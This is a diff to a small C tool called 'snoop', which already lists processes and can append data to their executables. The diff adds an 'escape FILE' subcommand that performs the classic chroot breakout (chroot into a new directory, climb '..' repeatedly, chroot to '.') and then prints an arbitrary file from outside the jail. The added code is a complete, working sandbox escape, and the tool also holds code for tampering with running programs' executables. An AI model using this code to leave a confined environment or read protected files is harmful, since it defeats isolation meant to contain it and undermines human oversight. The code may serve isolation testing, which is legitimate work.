@@ -10,7 +10,9 @@
  *   root                     its root is another than ours
  *   wrote exe                its executable could be opened for writing, and something was appended
  *
- * usage: snoop look | overwrite
+ * `snoop escape FILE` leaves its root directory, if it may chroot(2), as far as that can be done, and prints FILE.
+ *
+ * usage: snoop look | overwrite | escape FILE
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -98,8 +100,27 @@ static void overwrite(int pid)
     close(handle);
 }
 
+/* chroot(2) does not change the working directory: from outside of the new root ".." has no end but the topmost. */
+static int escape(const char *file)
+{
+    mkdir("x", 0700);
+    if (chroot("x") < 0)
+        return 1;
+    for (int i = 0; i < 100; i++)
+        if (chdir("..") < 0)
+            return 1;
+    if (chroot(".") < 0)
+        return 1;
+    char text[4096];
+    int fd = open(file, O_RDONLY);
+    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
+    return length < 0 || write(1, text, (size_t)length) != length;
+}
+
 int main(int argc, char **argv)
 {
+    if (argc == 3 && strcmp(argv[1], "escape") == 0)
+        return escape(argv[2]);
     static char known[1 << 22];
     int overwriting = argc > 1 && strcmp(argv[1], "overwrite") == 0;
     setvbuf(stdout, NULL, _IOLBF, 0);
